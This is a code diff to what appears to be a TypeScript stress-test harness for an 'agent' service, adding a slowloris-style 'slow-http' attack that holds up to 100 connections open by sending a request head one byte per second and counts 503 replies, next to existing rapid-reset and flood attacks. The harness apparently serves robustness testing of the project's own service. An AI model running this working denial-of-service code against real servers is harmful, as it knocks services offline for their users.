@@ -11,6 +11,7 @@
 import { randomBytes } from 'node:crypto';
 import http from 'node:http';
 import http2 from 'node:http2';
+import net from 'node:net';
 
 /** What an attack prints when it ends. */
 export type AttackReport = Record<string, number | Record<string, number>>;
@@ -273,6 +274,52 @@ async function scrape(
   };
 }
 
+/**
+ * Slow HTTP/1.1 clients: `conns` connections that each send a request head one
+ * byte a second, holding an HTTP slot; counts the 503s the agent answers.
+ */
+async function slowHttp(
+  host: string,
+  port: number,
+  until: number,
+  conns: number,
+): Promise<AttackReport> {
+  const answers = new Tally();
+  const head = 'GET /metrics HTTP/1.1\r\nHost: agent\r\nX-Slow: ' + 'a'.repeat(4000);
+  const sockets = await Promise.all(
+    Array.from(
+      { length: conns },
+      () =>
+        new Promise<net.Socket>((resolve) => {
+          const s = net.connect(port, host, () => resolve(s));
+          let first = true;
+          s.on('data', (d: Buffer) => {
+            if (!first) return;
+            first = false;
+            answers.add(d.toString('latin1').split('\r\n')[0] ?? '');
+          });
+          s.on('error', () => resolve(s));
+          s.on('close', () => {
+            if (first) answers.add('closed');
+          });
+          let i = 0;
+          const drip = setInterval(() => {
+            if (s.destroyed || Date.now() >= until || i >= head.length) {
+              clearInterval(drip);
+              return;
+            }
+            s.write(head[i++]);
+          }, 1000);
+          s.write(head.slice(0, 4));
+          i = 4;
+        }),
+    ),
+  );
+  await sleep(Math.max(0, until - Date.now()));
+  for (const s of sockets) s.destroy();
+  return { connections: conns, answers: answers.counts };
+}
+
 /** Runs one attack from the command line. */
 export async function main(argv: string[]): Promise<AttackReport> {
   const [attack, host, portText, secondsText, ...rest] = argv;
@@ -286,6 +333,8 @@ export async function main(argv: string[]): Promise<AttackReport> {
       return rapidReset(host, port, until, n(0, 50));
     case 'scrape':
       return scrape(host, port, until, n(0, 16), rest[1] ?? '/metrics');
+    case 'slow-http':
+      return slowHttp(host, port, until, n(0, 100));
     case 'status':
       return unaryFlood(host, port, until, n(0, 16), () => ({
         path: '/btoverlay.v1.Control/Status',
